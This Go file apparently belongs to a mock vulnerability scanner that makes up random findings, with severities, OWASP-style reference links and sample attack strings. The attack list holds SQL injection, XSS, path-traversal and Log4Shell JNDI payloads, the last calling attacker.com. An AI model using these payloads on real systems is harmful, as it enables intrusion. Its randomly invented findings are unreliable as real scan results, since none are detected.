package scanner

import (
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/google/uuid"
)

// Catalogue of vulnerability types per severity. The names feed the
// description and the synthesized OWASP reference URL.
var vulnNames = map[Severity][]string{
	SeverityHigh: {
		"SQL Injection",
		"Cross-Site Scripting (XSS)",
		"Remote Code Execution",
		"Server-Side Request Forgery (SSRF)",
		"XML External Entity (XXE) Injection",
	},
	SeverityMedium: {
		"Cross-Site Request Forgery (CSRF)",
		"Insecure Direct Object Reference (IDOR)",
		"Security Misconfiguration",
		"Broken Authentication",
		"Sensitive Data Exposure",
	},
	SeverityLow: {
		"Clickjacking",
		"Missing Security Headers",
		"Information Disclosure",
		"Cookie Without Secure Flag",
		"Cross-Domain Referrer Leakage",
	},
	SeverityInfo: {
		"Missing HTTP Security Headers",
		"Server Information Disclosure",
		"Email Address Disclosure",
		"Insecure CORS Policy",
		"Deprecated Library Version",
	},
}

var solutions = map[Severity]string{
	SeverityHigh:   "Update to the latest version of the affected component and implement proper input validation and output encoding.",
	SeverityMedium: "Implement proper access controls, input validation, and ensure proper authentication checks are in place.",
	SeverityLow:    "Update application configuration to implement security best practices and headers.",
	SeverityInfo:   "Review and update the configuration to follow security best practices.",
}

var (
	pathSegments = []string{"admin", "api", "wp-admin", "backup", "config"}
	paramNames   = []string{"id", "username", "q", "search", "email", ""}
	attacks      = []string{"' OR '1'='1", "<script>alert(1)</script>", "../../etc/passwd", "${jndi:ldap://attacker.com/exploit}", ""}
	evidences    = []string{"SQL syntax error", "Reflected input detected", "Sensitive data in response", ""}
	riskLabels   = []string{"High", "Medium", "Low", "Info"}
	confLabels   = []string{"High", "Medium", "Low"}
)

// randomSeverity draws a severity with weights 0.1 high, 0.2 medium,
// 0.5 low, 0.2 info.
func randomSeverity() Severity {
	r := rand.Float64()
	switch {
	case r < 0.1:
		return SeverityHigh
	case r < 0.3:
		return SeverityMedium
	case r < 0.8:
		return SeverityLow
	default:
		return SeverityInfo
	}
}

// randomFinding fabricates one finding against target. An empty severity
// means pick one at random.
func randomFinding(target string, severity Severity) Finding {
	if severity == "" {
		severity = randomSeverity()
	}

	name := pick(vulnNames[severity])

	f := Finding{
		ID:          uuid.NewString(),
		Name:        name,
		Description: fmt.Sprintf("A %s severity %s was detected on %s.", severity, strings.ToLower(name), target),
		Severity:    severity,
		URL:         target + "/" + randomPath(),
		Solution:    solutions[severity],
		Reference:   referenceURL(name),
		Risk:        pick(riskLabels)[:1],
		Confidence:  pick(confLabels)[:1],
	}

	if severity == SeverityHigh || severity == SeverityMedium {
		f.Param = pick(paramNames)
		f.Attack = pick(attacks)
		f.Evidence = pick(evidences)
	}

	return f
}

func pick(candidates []string) string {
	return candidates[rand.IntN(len(candidates))]
}

// randomPath joins 1-3 random well-known segments, duplicates allowed.
func randomPath() string {
	n := 1 + rand.IntN(3)
	segs := make([]string, n)
	for i := range segs {
		segs[i] = pick(pathSegments)
	}
	return strings.Join(segs, "/")
}

// referenceURL derives an OWASP community link from the vulnerability
// name: lower-cased, spaces to hyphens, parentheses stripped.
func referenceURL(name string) string {
	slug := strings.ToLower(name)
	slug = strings.ReplaceAll(slug, " ", "-")
	slug = strings.ReplaceAll(slug, "(", "")
	slug = strings.ReplaceAll(slug, ")", "")
	return "https://owasp.org/www-community/vulnerabilities/" + slug
}
